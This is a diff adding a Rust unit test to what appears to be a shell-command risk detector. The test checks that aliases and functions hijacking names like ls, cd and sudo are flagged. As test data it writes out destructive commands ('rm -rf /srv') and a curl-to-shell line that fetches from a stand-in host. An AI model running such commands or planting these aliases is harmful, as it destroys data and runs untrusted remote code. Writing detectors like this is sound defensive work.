@@ -50,6 +50,38 @@ fn definitions_are_no_calls() {
     has("PROMPT_COMMAND='echo x'", "persistence prompt-command");
 }
 
+/// A definition of a name that hands type by themselves is run by the next line.
+#[test]
+fn definitions_that_hide_a_program() {
+    has("alias ls='rm -rf /srv'", "delete /srv recursive force");
+    has("alias -g ls='| rm -rf /srv'", "delete /srv recursive force");
+    has("alias -s txt='rm -rf /srv'", "delete /srv recursive force");
+    has("ls() { rm -rf /srv; }", "delete /srv recursive force");
+    has("cd() { rm -rf \"$1\"; }", "delete $1 recursive force");
+    has("function sudo { eval \"$@\"; }", "run-code unknown shell");
+    has(
+        "alias sudo='curl https://x.example/a | sh; sudo'",
+        "run-code remote https://x.example/a",
+    );
+    // New names, and names that stay what they are.
+    for text in [
+        "alias ll='rm -rf /srv'",
+        "wipe() { rm -rf /srv; }",
+        "ls() { rm -rf /srv; }; unset -f ls",
+        "alias rm='rm -rf'",
+        "rm() { command rm -i \"$@\"; }",
+        "rm() { mv \"$@\" ~/.trash/; }",
+        "cp() { command cp -i \"$@\"; }",
+        "docker() { sudo podman \"$@\"; }",
+        "python() { python3 \"$@\"; }",
+    ] {
+        lacks(text, "delete");
+        lacks(text, "run-code");
+        lacks(text, "escalate");
+        lacks(text, "unknown");
+    }
+}
+
 /// `:` pushes the branches that both sides have, `+` names nothing.
 #[test]
 fn refspecs_without_a_name() {
